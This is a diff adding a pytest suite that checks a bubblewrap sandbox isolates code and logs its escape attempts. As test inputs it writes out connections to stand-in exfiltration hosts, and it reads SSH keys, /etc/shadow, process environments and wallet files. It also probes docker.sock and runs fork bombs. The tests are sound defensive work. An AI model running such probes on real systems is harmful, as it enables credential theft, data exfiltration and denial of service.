@@ -1,0 +1,299 @@
+"""What is started in the sandbox sees and reaches nothing of this machine, and is told of when it tries."""
+
+import sys
+from contextlib import suppress
+from pathlib import Path
+
+import pytest
+from mcp_visits import need_sandbox
+
+from seatrial.adapters import bubblewrap
+from seatrial.adapters.bubblewrap import Bounds, Held, Order, check_sandbox, hold
+from seatrial.adapters.sandbox_view import view_of
+from seatrial.core.errors import RunError
+
+
+@pytest.fixture(autouse=True)
+def _sandbox() -> None:
+    need_sandbox()
+
+
+def _run(
+    code: str, *arguments: str, env: dict[str, str] | None = None, bounds: Bounds | None = None
+) -> tuple[str, Held]:
+    """Run Python code inside; return what it printed, and what held it."""
+    view = view_of([sys.executable, "-I", "-c", code, *arguments])
+    assert view is not None
+    held = hold(Order(view=view, env=env or {}, bounds=bounds or Bounds()))
+    try:
+        assert held.process.stdin is not None
+        assert held.process.stdout is not None
+        held.process.stdin.close()
+        printed = held.process.stdout.read().decode()
+        held.process.wait()
+    finally:
+        held.close()
+    return printed, held
+
+
+def _kinds(held: Held) -> list[tuple[str, str]]:
+    return [(attempt.kind, attempt.what) for attempt in held.attempts]
+
+
+def test_the_environment_holds_what_was_given_and_nothing_else(monkeypatch: pytest.MonkeyPatch):
+    monkeypatch.setenv("SEATRIAL_TEST_SECRET", "s3cret")
+    printed, _ = _run("import os; print(*sorted(os.environ))", env={"GIVEN": "1"})
+    assert printed == "GIVEN HOME LANG PATH PWD\n"
+
+
+def test_the_home_and_the_working_folder_are_not_there(tmp_path: Path):
+    secret = tmp_path / "secret.txt"
+    secret.write_text("s3cret", encoding="utf-8")
+    printed, _ = _run("import os, sys; print([os.path.exists(p) for p in sys.argv[1:]])", str(secret))
+    assert printed == "[False]\n"
+
+
+def test_nobody_inside_is_anybody_and_nothing_can_become_it():
+    code = """
+import os
+caps = [line.split()[1] for line in open("/proc/self/status") if line.startswith(("CapEff", "CapPrm", "NoNewPrivs"))]
+print(os.getuid(), caps)
+"""
+    printed, _ = _run(code)
+    assert printed == "65534 ['0000000000000000', '0000000000000000', '1']\n"
+
+
+def test_nothing_of_the_system_or_the_kernel_can_be_written():
+    code = """
+import os
+for path in ["/x", "/usr/x", "/etc/x", "/dev/x", "/etc/passwd", "/proc/sys/kernel/core_pattern", "/proc/sysrq-trigger",
+             "/proc/sys/vm/drop_caches", "/proc/self/oom_score_adj", "/tmp/home/.ssh/id_rsa"]:
+    try:
+        os.close(os.open(path, os.O_WRONLY | os.O_CREAT))
+        print(path)
+    except OSError:
+        pass
+"""
+    assert _run(code)[0] == ""
+
+
+def test_the_private_folder_can_be_written_within_its_bounds():
+    code = """
+import os
+from pathlib import Path
+Path("/tmp/x").write_text("mine")
+print(Path("/tmp/x").read_text())
+try:
+    for index in range(20):
+        Path(f"/tmp/{index}").write_bytes(b"x" * 1_000_000)
+except OSError as error:
+    print(os.strerror(error.errno))
+"""
+    printed, _ = _run(code, bounds=Bounds(tmp_bytes=4 << 20))
+    assert printed == "mine\nNo space left on device\n"
+
+
+def test_a_file_can_be_no_larger_than_its_bound():
+    code = """
+import signal
+signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
+try:
+    open("/tmp/x", "wb").write(b"x" * 2_000_000)
+except OSError as error:
+    print(error.strerror)
+"""
+    assert _run(code, bounds=Bounds(file_bytes=1 << 20))[0] == "File too large\n"
+
+
+def test_other_processes_of_this_machine_cannot_be_seen_or_ended():
+    code = """
+import os, sys
+print(sorted(int(name) for name in os.listdir("/proc") if name.isdigit()) == [1, os.getpid()])
+"""
+    assert _run(code)[0] == "True\n"
+
+
+def test_a_try_at_the_network_fails_and_is_told_with_its_goal():
+    code = """
+import socket
+for place in [("203.0.113.9", 4444), ("exfil.example", 80)]:
+    try:
+        socket.create_connection(place, timeout=5)
+        print("connected")
+    except OSError:
+        pass
+datagrams = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+try:
+    datagrams.sendto(b"x", ("203.0.113.10", 53000))
+except OSError:
+    pass
+try:
+    datagrams.sendmsg([b"x"], [], 0, ("203.0.113.11", 53001))
+except OSError:
+    pass
+"""
+    printed, held = _run(code)
+    assert printed == ""
+    assert _kinds(held) == [
+        ("network", "203.0.113.9:4444"),
+        ("network", "exfil.example"),
+        ("network", "203.0.113.10:53000"),
+        ("network", "203.0.113.11:53001"),
+    ]
+    assert all(attempt.stopped for attempt in held.attempts)
+
+
+def test_a_try_at_keys_finds_a_decoy_or_nothing_and_is_told():
+    code = """
+import os
+os.chdir(os.path.expanduser("~/.ssh"))
+print("Nothing is kept here" in open("id_rsa").read())
+for path in ["/etc/shadow", "/proc/1/environ", os.path.expanduser("~/.electrum/wallets")]:
+    try:
+        open(path).read()
+    except OSError:
+        pass
+"""
+    printed, held = _run(code)
+    assert printed == "True\n"
+    assert _kinds(held) == [
+        ("secret", "~/.ssh/id_rsa"),
+        ("secret", "/etc/shadow"),
+        ("secret", "/proc/1/environ"),
+        ("secret", "~/.electrum/wallets"),
+    ]
+
+
+def test_a_try_at_another_programs_socket_is_told():
+    code = """
+import socket
+try:
+    socket.socket(socket.AF_UNIX).connect("/var/run/docker.sock")
+except OSError:
+    pass
+"""
+    assert _kinds(_run(code)[1]) == [("socket", "/var/run/docker.sock")]
+
+
+def test_other_programs_that_it_starts_are_told_for_the_record():
+    code = "import subprocess; subprocess.run(['/bin/sh', '-c', 'cat /etc/shadow 2>/dev/null; true'])"
+    kinds = _kinds(_run(code)[1])
+    assert kinds[0] == ("program", "/bin/sh")
+    assert ("secret", "/etc/shadow") in kinds
+
+
+def test_a_fork_bomb_ends_where_its_bound_is():
+    code = """
+import os, time
+forked = 0
+for _ in range(60):
+    try:
+        if os.fork() == 0:
+            time.sleep(60)
+            os._exit(0)
+        forked += 1
+    except OSError:
+        break
+print(forked, flush=True)
+os.kill(-1, 9)
+"""
+    printed, held = _run(code, bounds=Bounds(processes=20))
+    assert printed == "20\n"
+    assert _kinds(held) == [("processes", "more than 20 processes")]
+
+
+def test_one_that_goes_on_forking_is_ended():
+    code = "import os\nwhile True:\n    try:\n        os.fork() or os._exit(0)\n    except OSError:\n        pass"
+    _, held = _run(code, bounds=Bounds(processes=20))
+    assert held.ended_for == "it kept starting processes past the bound of 20"
+
+
+def test_one_that_takes_too_much_memory_is_ended_even_with_help():
+    code = """
+import subprocess, sys, time
+code = "x = b'x' * 90_000_000; import time; time.sleep(60)"
+children = [subprocess.Popen([sys.executable, "-I", "-c", code]) for _ in range(3)]
+time.sleep(60)
+"""
+    _, held = _run(code, bounds=Bounds(memory_bytes=200 << 20))
+    assert held.ended_for == "it used more than 200 MiB of memory"
+
+
+def test_nothing_that_it_started_outlives_it(tmp_path: Path):
+    code = """
+import os, signal, sys, time
+if os.fork() == 0:
+    os.setsid()
+    signal.signal(signal.SIGTERM, signal.SIG_IGN)
+    print("started", flush=True)
+    os.close(1)
+    time.sleep(60)
+"""
+    printed, _ = _run(code, f"marked-{tmp_path.name}")
+    assert printed == "started\n"
+    assert not any(f"marked-{tmp_path.name}".encode() in line for line in _command_lines())
+
+
+def test_memory_that_is_nobodys_own_is_counted_or_not_to_be_had():
+    shared = "import mmap, time; m = mmap.mmap(-1, 300_000_000); m[:] = b'x' * len(m); time.sleep(60)"
+    _, held = _run(shared, bounds=Bounds(memory_bytes=200 << 20))
+    assert held.ended_for == "it used more than 200 MiB of memory"
+    nameless = "import os\ntry:\n    os.memfd_create('x')\nexcept OSError as error:\n    print(error.strerror)"
+    assert _run(nameless)[0] == "Function not implemented\n"
+
+
+def test_where_nothing_can_be_watched_that_is_said(monkeypatch: pytest.MonkeyPatch):
+    monkeypatch.setattr(bubblewrap, "machine_called", lambda name: None)
+    printed, held = _run("import os; print(os.path.exists('/etc/shadow'))")
+    assert printed == "False\n"
+    assert held.attempts == ()
+    assert held.blind == ("what it tries was not watched, nor its processes and memory bounded: not on this machine",)
+
+
+def test_without_bubblewrap_nothing_is_started(monkeypatch: pytest.MonkeyPatch, tmp_path: Path):
+    bubblewrap._why_no_sandbox.cache_clear()
+    monkeypatch.setenv("PATH", str(tmp_path))
+    try:
+        with pytest.raises(RunError) as raised:
+            check_sandbox()
+        assert raised.value.code == "audit.no_sandbox"
+        assert "apt-get install bubblewrap" in raised.value.hint
+        assert "--unsafe" in raised.value.hint
+        assert "not installed" in check_sandbox(unsafe=True)
+    finally:
+        bubblewrap._why_no_sandbox.cache_clear()
+
+
+def test_where_bubblewrap_cannot_make_a_sandbox_its_own_reason_is_told(monkeypatch: pytest.MonkeyPatch, tmp_path: Path):
+    fake = tmp_path / "bwrap"
+    fake.write_text("#!/bin/sh\necho 'bwrap: No permissions to create new namespace' >&2\nexit 1\n", encoding="utf-8")
+    fake.chmod(0o755)
+    bubblewrap._why_no_sandbox.cache_clear()
+    monkeypatch.setenv("PATH", str(tmp_path), prepend=":")
+    try:
+        with pytest.raises(RunError, match="No permissions to create new namespace"):
+            check_sandbox()
+    finally:
+        bubblewrap._why_no_sandbox.cache_clear()
+
+
+def test_the_options_and_what_is_in_them_are_on_no_command_line():
+    view = view_of([sys.executable, "-I", "-c", "print('here', flush=True); input()"])
+    assert view is not None
+    held = hold(Order(view=view, env={"API_KEY": "s3cret"}))
+    try:
+        assert held.process.stdout is not None
+        assert held.process.stdout.readline() == b"here\n"
+        lines = _command_lines()
+    finally:
+        held.close()
+    assert any(b"bwrap" in line for line in lines)
+    assert not any(b"s3cret" in line for line in lines)
+
+
+def _command_lines() -> list[bytes]:
+    found: list[bytes] = []
+    for path in Path("/proc").glob("[0-9]*/cmdline"):
+        with suppress(OSError):
+            found.append(path.read_bytes())
+    return found
